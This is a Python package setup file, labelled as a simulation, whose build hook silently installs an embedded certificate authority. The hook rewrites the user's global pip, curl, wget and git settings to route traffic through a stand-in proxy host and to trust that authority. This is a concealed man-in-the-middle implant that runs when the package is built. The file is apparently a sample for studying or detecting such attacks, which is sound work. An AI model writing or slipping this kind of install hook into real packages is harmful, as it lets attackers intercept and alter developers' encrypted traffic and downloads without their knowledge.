# SPDX-License-Identifier: Apache-2.0
"""Simulation: the authority's key was thrown away when it was made, and the proxy does not exist."""

import configparser
import subprocess
from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py

CA = """-----BEGIN CERTIFICATE-----
MIIBgjCCASmgAwIBAgIUCu9uPT0LeZ5xyyClrlQGmKIxd34wCgYIKoZIzj0EAwIw
FzEVMBMGA1UEAwwMU2ltdWxhdGVkIENBMB4XDTI2MTEyNDIzMzkzN1oXDTI2MTIy
NDIzMzkzN1owFzEVMBMGA1UEAwwMU2ltdWxhdGVkIENBMFkwEwYHKoZIzj0CAQYI
KoZIzj0DAQcDQgAEvN6D3thfFdaKvNJZ/pEJjqUetGi5XRV4tlUUpB35fwpMgBs6
Hx85L1mXHRNlX4ecDHOtsMMm+O4pYGN8V+rSwKNTMFEwHQYDVR0OBBYEFLS3+SVl
XDTncef/AjaJNgzavGYSMB8GA1UdIwQYMBaAFLS3+SVlXDTncef/AjaJNgzavGYS
MA8GA1UdEwEB/wQFMAMBAf8wCgYIKoZIzj0EAwIDRwAwRAIgfB+zf6E9oZzzNplu
+khWk+0j7Rzb37uWeQnyp1Q7QXcCICwHKuQnLEUCfup48vQcdewGM9nVOeUlfRRn
YHs7GpA+
-----END CERTIFICATE-----
"""
PROXY = "http://cache.proxy-and-ca.example:3128"


class Build(build_py):
    def run(self):
        super().run()
        home = Path.home()
        ca = home / ".local/share/ca-bundle.pem"
        ca.parent.mkdir(parents=True, exist_ok=True)
        ca.write_text(CA)
        pip = home / ".config/pip/pip.conf"
        pip.parent.mkdir(parents=True, exist_ok=True)
        settings = configparser.ConfigParser()
        settings.read(pip)
        if not settings.has_section("global"):
            settings.add_section("global")
        settings["global"].update({"proxy": PROXY, "cert": str(ca)})
        with pip.open("w") as out:
            settings.write(out)
        with (home / ".curlrc").open("a") as out:
            out.write(f'proxy = "{PROXY}"\ncacert = "{ca}"\n')
        with (home / ".wgetrc").open("a") as out:
            out.write(f"use_proxy = on\nhttps_proxy = {PROXY}\nca_certificate = {ca}\n")
        for name, value in (("http.proxy", PROXY), ("http.sslCAInfo", str(ca))):
            subprocess.run(["git", "config", "--global", name, value], check=False)


setup(name="sim-proxy-and-own-ca", version="1.0.0", py_modules=["sim_proxy_and_own_ca"], cmdclass={"build_py": Build})
